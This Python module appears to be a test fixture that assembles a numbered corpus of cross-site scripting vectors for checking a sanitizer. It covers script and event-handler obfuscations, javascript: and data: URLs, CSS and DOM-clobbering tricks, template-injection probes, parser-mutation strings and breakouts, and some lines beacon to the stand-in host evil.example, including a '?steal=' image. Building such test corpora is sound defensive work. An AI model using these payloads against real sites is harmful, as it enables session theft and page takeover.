"""Ways to have a page run something: classic families, written down as parts and put together
here, and nestings that hypothesis makes, the same ones every time.

Each says `ran(NUMBER)` where it would run, or asks `evil.example` for something, so that a browser
can tell which one got through. `CORPUS` has them all.
"""

import base64
from functools import cache
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

RUN = "ran(0)"
HOST = "evil.example"
Family = list[str]

# --- Scripts --------------------------------------------------------------------------------------

SCRIPTS: Family = [
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<ScRiPt\n>{run}</sCrIpT\n>",
    "<script type=module>{run}</script>",
    "<script type='text/javascript' charset=utf-8>{run}</script>",
    "<script/x>{run}</script>",
    "<script\x0c>{run}</script>",
    "<script\t>{run}</script foo>",
    "<script>{run}</script\x00>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<script>{run}",
    "<script>//>\n{run}</script>",
    "<script><!--\n{run}\n--></script>",
    "<script>/*<script>*/{run}</script>",
    "</script><script>{run}</script>",
    "<script>`${{{run}}}`</script>",
    "<script async defer>{run}</script>",
    "<script nomodule=false>{run}</script>",
    "<script src=//{host}/x.js></script>",
    "<script src=https://{host}/x.js></script>",
    "<script src='data:text/javascript,{run}'></script>",
    "<script src='data:;base64,{b64}'></script>",
    '<script type=importmap>{{"imports":{{"a":"//{host}/a.js"}}}}</script>',
    '<script type=speculationrules>{{"prefetch":[{{"urls":["//{host}/"]}}]}}</script>',
    "<script for=window event=onload>{run}</script>",
    "<script xlink:href='data:text/javascript,{run}'></script>",
    "<p><script>{run}</script></p>",
    "<b <script>{run}</script>",
    "<a><script>{run}</script></a>",
    "<table><script>{run}</script></table>",
    "<select><script>{run}</script></select>",
    "<script>eval(atob('{b64}'))</script>",
    "<script>Function('{run}')()</script>",
    "<script>setTimeout('{run}')</script>",
    "<script>[].constructor.constructor('{run}')()</script>",
    "<script>throw onerror=eval,'={run}'</script>",
    "\ufeff<script>{run}</script>",
    "<%00script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "＜script＞{run}＜/script＞",
    "‹script›{run}‹/script›",
    "<ſcript>{run}</ſcript>",
    "<scrıpt>{run}</scrıpt>",
    "<s\u200bcript>{run}</s\u200bcript>",
]

# --- Handlers -------------------------------------------------------------------------------------

# Elements that cause the event by themselves, or are given one to cause.
_FIRING = {
    "error": [
        "<img src=x {on}>", "<img src=x:x {on}>", "<image src=x {on}>", "<video src=x {on}></video>",
        "<audio src=x {on}></audio>", "<video><source {on}></video>", "<object data=x {on}></object>",
        "<link rel=stylesheet href=x {on}>", "<script src=x {on}></script>",
        "<input type=image src=x {on}>", "<embed src=x type=image/png {on}>",
        "<svg><image href=x {on}></image></svg>", "<picture><img src=x {on}></picture>",
        "<iframe src=x: {on}></iframe>", "<body background=x {on}>", "<style>@import 'x'</style {on}>",
    ],
    "load": [
        "<svg {on}>", "<svg/{on}>", "<iframe {on}></iframe>", "<body {on}>", "<style {on}></style>",
        "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' {on}>", "<frameset {on}></frameset>",
        "<svg><style {on}></style></svg>", "<object data='data:,' {on}></object>",
        "<embed src='data:text/plain,x' {on}>", "<link rel=stylesheet href='data:text/css,' {on}>",
        "<input type=image src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' {on}>",
    ],
    "focus": [
        "<input autofocus {on}>", "<textarea autofocus {on}></textarea>",
        "<select autofocus {on}></select>", "<button autofocus {on}>x</button>",
        "<a href=x autofocus {on}>x</a>", "<div tabindex=1 autofocus {on}>x</div>",
        "<p contenteditable autofocus {on}>x</p>", "<keygen autofocus {on}>",
        "<svg><a href=x autofocus {on}><text>x</text></a></svg>",
        "<math href=x tabindex=1 autofocus {on}>x</math>",
    ],
    "toggle": ["<details open {on}>x</details>", "<details {on} open><summary>x</summary></details>"],
    "start": ["<marquee {on}>x</marquee>"],
    "finish": ["<marquee loop=1 width=0 {on}>x</marquee>"],
    "bounce": ["<marquee behavior=alternate {on}>x</marquee>"],
    "begin": [
        "<svg><animate {on} attributeName=x dur=1s></animate></svg>",
        "<svg><set {on} attributeName=x></set></svg>",
        "<svg><animateTransform {on} attributeName=transform></animateTransform></svg>",
        "<svg><animateMotion {on} dur=1s></animateMotion></svg>",
    ],
    "end": ["<svg><animate {on} attributeName=x dur=1ms></animate></svg>"],
    "repeat": ["<svg><animate {on} attributeName=x dur=1ms repeatCount=2></animate></svg>"],
    "animationstart": [
        "<style>@keyframes k{{}}</style><p style='animation-name:k' {on}>x</p>",
        "<p style='animation:k 1s' {on}>x</p>",
    ],
    "transitionend": ["<p style='transition:color 1s' tabindex=1 {on}>x</p>"],
    "scroll": ["<div style='overflow:auto;height:1px' {on}><br><br><br>x</div>"],
    "hashchange": ["<body {on}>"], "pageshow": ["<body {on}>"], "message": ["<body {on}>"],
    "resize": ["<body {on}>"], "popstate": ["<body {on}>"], "beforeprint": ["<body {on}>"],
    "loadstart": ["<video src=x {on}></video>", "<audio src=x {on}></audio>"],
    "canplay": ["<audio src='data:audio/wav;base64,UklGRiQAAABXQVZF' {on}></audio>"],
    "loadedmetadata": ["<video src='data:video/mp4,' {on}></video>"],
    "cuechange": ["<video><track default src='data:text/vtt,WEBVTT' {on}></video>"],
    "invalid": ["<form><input required {on}></form>"],
    "formdata": ["<form {on}><button>x</button></form>"],
    "reset": ["<form {on}><button type=reset>x</button></form>"],
    "submit": ["<form {on}><button>x</button></form>"],
    "securitypolicyviolation": ["<div {on}><img src=//evil.example/y></div>"],
}  # fmt: skip
# Those that wait for a hand: the test presses, points, types and pastes.
_WAITING = """click dblclick auxclick contextmenu mousedown mouseup mouseover mouseout mouseenter
mouseleave mousemove pointerdown pointerup pointerover pointerenter pointermove pointerrawupdate
touchstart touchend wheel mousewheel keydown keyup keypress input beforeinput change blur focusin
focusout copy cut paste drag dragstart dragend dragenter drop select selectionchange selectstart
search beforetoggle beforematch gotpointercapture compositionstart fullscreenchange
webkitanimationstart webkittransitionend scrollend activate""".split()
_CARRIERS = [
    "<p {on}>x</p>", "<a href=# {on}>x</a>", "<td {on}>x</td>", "<h2 {on}>x</h2>",
    "<blockquote {on}><p>x</p></blockquote>", "<li {on}>x</li>", "<em {on}>x</em>",
    "<figure class=newsroom-image {on}>x</figure>", "<table {on}><tr><td>x</td></tr></table>",
    "<x-y {on} tabindex=1>x</x-y>", "<strong {on}>x</strong>", "<sup {on}>x</sup>",
    "<hr {on}>", "<caption {on}>x</caption>", "<br {on}>", "<ol {on}><li>x</li></ol>",
]  # fmt: skip
_WRITINGS = [
    "on{event}={run}", 'on{event}="{run}"', "on{event}='{run}'", "ON{event}={run}",
    "on{event} = {run}", "\non{event}\n=\n{run}", "/on{event}={run}", "on{event}=&#114;an({n})",
    "on{event}=r\\u0061n({n})", "on{event}=javascript:{run}", "x='>' on{event}={run}",
    "on{event}=`{run}`;{run}", '"on{event}={run} ', "\x0bon{event}={run}", "\x00on{event}={run}",
    "on{event}\x0c={run}", "xmlns:x=y x:on{event}={run} on{event}={run}",
]  # fmt: skip


def _handlers() -> Family:
    found = []
    number = 0
    for event, shapes in _FIRING.items():
        for shape in shapes:
            written = _WRITINGS[number % len(_WRITINGS)].replace("{event}", event)
            found.append(shape.replace("{on}", written))
            number += 1
    for event in _WAITING:
        written = _WRITINGS[number % len(_WRITINGS)].replace("{event}", event)
        found.append(_CARRIERS[number % len(_CARRIERS)].replace("{on}", written))
        number += 1
    # And every writing once on what surely fires.
    found += [
        "<img src=x {on}>".replace("{on}", written.replace("{event}", "error"))
        for written in _WRITINGS
    ]
    return found


# --- Addresses ------------------------------------------------------------------------------------

_SCHEMES = [
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "java\r\nscript:{run}", " javascript:{run}", "\x01javascript:{run}", "\x1fjavascript:{run}",
    "\u00a0javascript:{run}", "\ufeffjavascript:{run}", "&#106;avascript:{run}",
    "&#x6A;avascript:{run}", "&#0000106avascript:{run}", "&#x0006Aavascript:{run}",
    "java&Tab;script:{run}", "java&NewLine;script:{run}", "javascript&colon;{run}",
    "javascript&#58;{run}", "javascript&#x3a{run}", "javascript:%72an({n})", "javascript://%0a{run}",
    "javascript:/*--></title></style></textarea></script>*/{run}", "javascript\x00:{run}",
    "java\u200bscript:{run}", "j\u0430vascript:{run}", "ｊavascript:{run}", "javascript：{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,{page64}",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
    "vbscript:MsgBox({n})", "livescript:{run}", "mocha:{run}", "feed:javascript:{run}",
    "view-source:javascript:{run}", "blob:null/{n}", "filesystem:http://{host}/x", "file:///etc/passwd",
    "jar:http://{host}!/x", "about:blank#{n}", "//{host}/a", "/\\{host}/a", "\\\\{host}\\a",
    "https:{host}/a", "https:///{host}/a", "http://{host}\\@paper.example/",
    "https://paper.example@{host}/", "intent:#Intent;S.x={n};end", "ms-msdt:/id {n}",
]  # fmt: skip
_HOLDERS = [
    '<a href="{to}">x</a>', "<a href='{to}' target=_blank>x</a>", '<area href="{to}" shape=rect>',
    '<form action="{to}"><button>x</button></form>', '<form><button formaction="{to}">x</button></form>',
    '<form id=f></form><input type=submit form=f formaction="{to}">', '<iframe src="{to}"></iframe>',
    '<embed src="{to}">', '<object data="{to}"></object>', '<frameset><frame src="{to}"></frameset>',
    '<svg><a href="{to}"><text y=9>x</text></a></svg>',
    '<svg><a xlink:href="{to}"><text y=9>x</text></a></svg>', '<svg><use href="{to}#x"></use></svg>',
    '<math href="{to}">x</math>', '<math><maction actiontype=statusline xlink:href="{to}">x</maction></math>',
    '<base href="{to}"><a href="#">x</a>', '<meta http-equiv=refresh content="0;url={to}">',
    '<link rel=stylesheet href="{to}">', '<img src="{to}">', '<img srcset="{to} 1x">',
    '<input type=image src="{to}">', '<video src="{to}" poster="{to}"></video>', '<body background="{to}">',
    '<table background="{to}"><tr><td background="{to}">x</td></tr></table>', '<q cite="{to}">x</q>',
    '<a href="#" ping="{to}">x</a>', '<isindex action="{to}" type=image>', '<applet code="{to}"></applet>',
    '<portal src="{to}"></portal>', '<svg><image href="{to}"></image></svg>', '<bgsound src="{to}">',
    '<svg><animate attributeName=href values="{to}"></animate></svg>',
    '<svg><a><animate attributeName=href to="{to}" begin=0s></animate><text y=9>x</text></a></svg>',
    '<figure class="newsroom-image" data-image="{to}"></figure>', '<iframe srcdoc="<a href=\'{to}\'>x</a>">',
]  # fmt: skip


def _links() -> Family:
    found = [_HOLDERS[0].replace("{to}", scheme) for scheme in _SCHEMES]
    # Each holder with two schemes that browsers know, and one that they do not.
    found += [
        holder.replace("{to}", _SCHEMES[which])
        for number, holder in enumerate(_HOLDERS[1:])
        for which in (0, (number * 7 + 1) % len(_SCHEMES), 27 + number % 4)
    ]
    return found


# --- Styles, clobbering, other people's code ------------------------------------------------------

STYLES: Family = [
    "<style>@import '//{host}/a.css';</style>",
    "<style>body{{background:url(//{host}/b)}}</style>",
    "<style>*{{-moz-binding:url(//{host}/c#x)}}</style>",
    "<style>p{{behavior:url(//{host}/d)}}</style>",
    "<p style=\"background:url('javascript:{run}')\">x</p>",
    "<p style='background:url(//{host}/e)'>x</p>",
    "<p style='width:expression({run})'>x</p>",
    "<p style='xss:e/**/xpression({run})'>x</p>",
    "<p style='list-style-image:url(//{host}/f)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>{n}</p>",
    "<p style='behavior:url(#default#time2)' onbegin={run}>x</p>",
    "<link rel=stylesheet href=//{host}/g.css>",
    "<link rel=preload as=script href=//{host}/h.js>",
    "<link rel=prerender href=//{host}/i>",
    "<link rel=import href='data:text/html,<script>{run}</script>'>",
    "<link rel=icon href=//{host}/j>",
    "<style><img src='</style><img src=x onerror={run}//'>",
    "<style></style\n><img src=x onerror={run}>",
    "<xss style='animation-name:x' onanimationstart={run}></xss>",
    "<div style='background-image:\\0075\\0072\\006C\\0028//{host}/k\\0029'>x</div>",
]
CLOBBERING: Family = [
    "<img name=cookie>", "<form id=article_form><input name=body></form>", "<a id=CKEDITOR></a>",
    "<a id=newsroom><a id=newsroom name=count href='javascript:{run}'></a>", "<form name=document></form>",
    "<iframe name=newsroom srcdoc='<script>parent.{run}</script>'></iframe>", "<input id=action name=action>",
    "<img name=getElementById><img name=querySelector>", "<form id=x><input name=attributes></form>",
    "<a id=trustedTypes href='//{host}/l'></a>", "<embed name=body>", "<object id=defaultView></object>",
    "<p id=nr-keys data-press=s class=nr-bar>x</p>", "<div class='prose-editor nr-dialog' id=comments>x</div>",
    "<svg id=currentScript></svg>", "<base id=baseURI href=//{host}/>", "<form id=location></form>",
]  # fmt: skip
FOREIGN: Family = [
    "<iframe src=//{host}/></iframe>", "<object data=//{host}/></object>", "<embed src=//{host}/>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'>",
    "<iframe src='https://player.video.{host}/embed'></iframe>", "<img src=//{host}/pixel.gif width=1>",
    "<img src='//{host}/?steal=", "<img lowsrc=//{host}/m dynsrc=//{host}/n>", "<video src=//{host}/o></video>",
    "<audio src=//{host}/p autoplay></audio>", "<picture><source srcset=//{host}/q><img></picture>",
    "<input type=image src=//{host}/r>", "<svg><image xlink:href=//{host}/s /></svg>",
    "<svg><use href=//{host}/t.svg#x /></svg>", "<meta http-equiv=refresh content='0;//{host}/'>",
    "<meta http-equiv=Set-Cookie content='x={n}'>", "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href=//{host}/>", "<form action=//{host}/ id=z></form><button form=z autofocus>x</button>",
    "<html manifest=//{host}/>", "<frameset><frame src=//{host}/></frameset>", "<table background=//{host}/u>",
    "<applet code=//{host}/v></applet>", "<fencedframe></fencedframe><portal src=//{host}/w></portal>",
    "<textarea>x</textarea><img src=//{host}/x>", "<dialog open><form method=dialog>x</form></dialog>",
    "<noscript><img src=//{host}/y></noscript>", "<template shadowrootmode=open><img src=x onerror={run}></template>",
]  # fmt: skip
FRAMEWORKS: Family = [
    "<div x-data x-init='{run}'>x</div>", "<div x-data @click='{run}'>x</div>",
    "<div x-data x-html=\"'<img src=x onerror={run}>'\">x</div>", "<p x-data x-text='{run}'>x</p>",
    "<p x-data :title='{run}'>x</p>", "<p x-data x-effect='{run}'>x</p>", "<p x-data='{{a:{run}}}'>x</p>",
    "<template x-data x-if='{run}'><p>x</p></template>", "<p x-data x-on:load.window='{run}'>x</p>",
    "<p x-data x-intersect='{run}'>x</p>", "<p hx-get='//{host}/hx' hx-trigger=load>x</p>",
    "<p hx-on::load='{run}'>x</p>", "<p hx-on:click='{run}'>x</p>", "<p data-hx-get='//{host}/hx2' data-hx-trigger=load>x</p>",
    "<p hx-vals='js:{{a:{run}}}' hx-get=/ hx-trigger=load>x</p>", "<p v-html='{run}'>x</p>",
    "<div ng-app>{{{{constructor.constructor('{run}')()}}}}</div>", "<p ng-init='{run}'>x</p>",
    "{{{{constructor.constructor('{run}')()}}}}", "{{{{ {run} }}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>",
    "{{% debug %}}", "{{{{ ''.__class__.__mro__ }}}}", "{{{{ cycler.__init__.__globals__ }}}}", "[[{run}]]",
    "<div data-controller=x data-action='click->{run}'>x</div>", "<p _='on load call {run}'>x</p>",
]  # fmt: skip

# --- What parsers disagree about ------------------------------------------------------------------

MUTATIONS: Family = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={run}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg></p><style><a id=\"</style><img src=x onerror={run}>\">",
    "<svg><p><style><img title='</style><img src=x onerror={run}>'></svg>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<noembed><p title='</noembed><img src=x onerror={run}>'>",
    "<noframes><p title='</noframes><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<iframe><p title='</iframe><img src=x onerror={run}>'>",
    "<textarea><p title='</textarea><img src=x onerror={run}>'>",
    "<title><p title='</title><img src=x onerror={run}>'>",
    "<style><p title='</style><img src=x onerror={run}>'>",
    "<script><p title='</script><img src=x onerror={run}>'>",
    "<plaintext><img src=x onerror={run}>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<template><p title='</template><img src=x onerror={run}>'></template>",
    "<select><template><img src=x onerror={run}></template></select>",
    "<select><style></select><img src=x onerror={run}></style>",
    "<svg><style>&lt;img src=x onerror={run}&gt;</style></svg>",
    "<svg><style><!--</style><a title='--><img src=x onerror={run}>'>x</a>",
    "<svg><![CDATA[><img src=x onerror={run}>]]></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror={run}>]]></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    "<svg><title><style><img src=x onerror={run}></style></title></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={run}></style></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror={run}></annotation-xml></math>",
    "<math><mi><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={run} src=1>'></table></mi></math>",
    "<math><mtext><option><form><mglyph><style></math><img src=x onerror={run}></style></mglyph></form></option></mtext></math>",
    "<math><!--</math><img src=x onerror={run}>-->",
    "<!--><img src=x onerror={run}>-->",
    "<!---><img src=x onerror={run}>-->",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<!-- --!><img src=x onerror={run}> -->",
    "<!--<img src='--><img src=x onerror={run}>'>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><img src=x onerror={run}>",
    "<?php echo '<img src=x onerror={run}>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror={run}>'>]>&x;",
    "</p><img src=x onerror={run}><p>",
    "</br onclick={run}>x",
    "</div></section></main></body></html><img src=x onerror={run}>",
    "<p/onmouseover={run}/>x",
    "<img src=x\x00 onerror={run}>",
    "<img\x0bsrc=x onerror={run}>",
    "<img src=`x`onerror={run}>",
    "<img src='x'onerror={run}>",
    "<img src=x onerror={run} <p>",
    "<img src=x onerror={run}",
    "<img/src=x/onerror={run}>",
    "<img \"\"\"><script>{run}</script>\">",
    "<img src=x title='<script>{run}</script>'>",
    "<a title=\"<img src=x onerror={run}>\">x</a>",
    "<a href='x'><a href='javascript:{run}'>x</a>",
    "<p><table><tr><td><p><table><img src=x onerror={run}></table></p></td></tr></table></p>",
    "<table><tr><td><form><input name=x></td></tr></table><img src=x onerror={run}></form>",
    "<b><p><i></b><img src=x onerror={run}></i></p>",
    "<a><b></a><img src=x onerror={run}></b>",
    "<ruby><rt><img src=x onerror={run}></rt></ruby>",
    "<dl><dt><img src=x onerror={run}><dd>x</dl>",
    "<object><param name=src value='javascript:{run}'></object>",
    "<marquee><img src=x onerror={run}></marquee>",
    "<center><font color='\"><img src=x onerror={run}>'>x</font></center>",
    "<blink><layer src='javascript:{run}'>x</layer></blink>",
    "<xml><i><b>&lt;img src=x onerror={run}&gt;</b></i></xml>",
    "<html xmlns:x='javascript:{run}'><x:script>{run}</x:script>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>",
    "<svg><script href='data:text/javascript,{run}'/></svg>",
    "<svg><script>&#114;an({n})</script></svg>",
    "<svg><set attributeName=onmouseover to={run}></set></svg>",
    "<svg><handler type='text/javascript' ev:event=load>{run}</handler></svg>",
    "<svg><discard onbegin={run}></discard></svg>",
    "<x:image xmlns:x='http://www.w3.org/2000/svg' href=x onerror={run} />",
    "<details><summary onclick={run}>x</summary></details>",
    "<menuitem icon=x onclick={run}>", "<command onclick={run}>", "<input type=hidden accesskey=x onclick={run}>",
    "<button popovertarget=q>x</button><p popover id=q onbeforetoggle={run}>x</p>",
    "<a href=x id=1 onclick={run} style=display:block>x</a>",
]  # fmt: skip

# --- Out of the place where plain text stands -----------------------------------------------------

BREAKOUTS: Family = [
    "\"><script>{run}</script>", "'><script>{run}</script>", "\"><img src=x onerror={run}>",
    "'><img src=x onerror={run}>", "`><img src=x onerror={run}>", "\" onmouseover={run} x=\"",
    "' onmouseover={run} x='", "\" autofocus onfocus={run} x=\"", "' autofocus onfocus={run} x='",
    "x onerror={run} src=x", "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</option></select><img src=x onerror={run}>", "</style><script>{run}</script>", "</h1><img src=x onerror={run}>",
    "</script><script>{run}</script>", "</noscript><img src=x onerror={run}>", "--><script>{run}</script>",
    "]]><script>{run}</script>", "';{run};//", "\";{run};//", "`;{run};//", "\\';{run};//", "\\\";{run};//",
    "'-{run}-'", "\"-{run}-\"", "'+{run}+'", "${{{run}}}`", "');{run};('", "\");{run};(\"", "}};{run};{{",
    "*/{run}/*", "\u2028{run}//", "\u2029{run}//", "\r\n{run}\r\n", "\\u0027;{run};//", "&#39;;{run};//",
    "&quot;><img src=x onerror={run}>", "&apos;;{run};//", "&lt;img src=x onerror={run}&gt;",
    "%27;{run};//", "%22><img src=x onerror={run}>", "\x00\"><img src=x onerror={run}>", "javascript:{run}",
    "data:text/html,<script>{run}</script>", "<a href=javascript:{run}>x", "<svg/onload={run}>", "<img src=x onerror={run}>",
    "\u202e<img src=x onerror={run}>", "\u200f\"><svg onload={run}>", "<b>x</b><i onclick={run}>y</i>",
    "{{\"a\":\"</script><script>{run}</script>\"}}", "[\"</script><svg onload={run}>\"]", "<!--<script>{run}</script>",
    "<script>/*{{{{", "\"}}]}}</script><img src=x onerror={run}>", "\\\"><img src=x onerror={run}>",
    "<esi:include src=//{host}/esi />", "=HYPERLINK(\"javascript:{run}\")", "<?xml-stylesheet href='javascript:{run}'?>",
    "jaVasCript:/*`/*\\`/*'/*\"/**/(/* */{run})//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={run}//>\\x3e",
    "'\"></title></style></textarea></script--!><svg/onload={run}>", "\"'`><img src=x: onerror=`{run}`;{run}>",
]  # fmt: skip


def _numbered(family: Family, first: int) -> Family:
    found = []
    for number, shape in enumerate(family, first):
        run = f"ran({number})"
        found.append(
            shape.format(
                run=run,
                n=number,
                host=f"{HOST}/{number}" if "{host}/" in shape else HOST,
                b64=base64.b64encode(run.encode()).decode(),
                page64=base64.b64encode(f"<script>{run}</script>".encode()).decode(),
            )
        )
    return found


# --- Nestings -------------------------------------------------------------------------------------

_OPEN = """p div span a b i table tr td caption ul li blockquote figure svg math mtext mglyph
annotation-xml foreignObject desc title style script noscript template textarea select option
iframe object form xmp listing noembed plaintext h2 details marquee font pre dl dt""".split()
_PIECE: st.SearchStrategy[str] = st.one_of(
    st.sampled_from([f"<{name}>" for name in _OPEN]),
    st.sampled_from([f"</{name}>" for name in _OPEN]),
    st.sampled_from([
        "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<!", "</", "<", ">", '"', "'", "`", "&lt;", "&gt;",
        "&#60;", "\x00", "\u2028", "文", " ", "\n", "/", "=", "<a title='", '<a title="', "<img title='",
    ]),
    st.sampled_from([
        "<img src=x onerror=ran(0)>", "<svg onload=ran(0)>", "<script>ran(0)</script>",
        "<a href='javascript:ran(0)'>x</a>", "<p onclick=ran(0)>", "<iframe srcdoc='<script>ran(0)</script>'>",
        "<style>@import '//evil.example/0'</style>", "<input autofocus onfocus=ran(0)>",
    ]),
)  # fmt: skip
NESTING = st.lists(_PIECE, min_size=2, max_size=14).map("".join)
NESTINGS = 300


@cache
def nestings() -> Family:
    """What hypothesis makes of the parts, always the same."""
    found: dict[str, None] = {}

    @settings(max_examples=NESTINGS * 3, derandomize=True, database=None, deadline=None)
    @given(NESTING)
    def collect(text: str) -> None:
        if "ran(0)" in text or HOST in text:
            found.setdefault(text)

    collect()
    return list(found)[:NESTINGS]


FAMILIES: dict[str, Family] = {
    "scripts": SCRIPTS,
    "handlers": _handlers(),
    "links": _links(),
    "styles": STYLES,
    "clobbering": CLOBBERING,
    "foreign": FOREIGN,
    "frameworks": FRAMEWORKS,
    "mutations": MUTATIONS,
    "breakouts": BREAKOUTS,
}


def _corpus() -> Family:
    """Every vector once, each with a number of its own."""
    found: Family = []
    for family in FAMILIES.values():
        found += _numbered(family, len(found) + 1)
    for nested in nestings():
        number = len(found) + 1
        found.append(
            nested.replace("ran(0)", f"ran({number})").replace(f"{HOST}/0", f"{HOST}/{number}")
        )
    return list(dict.fromkeys(found))


CORPUS: Family = _corpus()


# What fits into a field of so many characters.
def short(most: int) -> Family:
    return [each for each in CORPUS if len(each) <= most]


def storable(vector: Any) -> str:
    """As it gets into a database: without nulls, which nobody can store there."""
    return str(vector).replace("\x00", "")
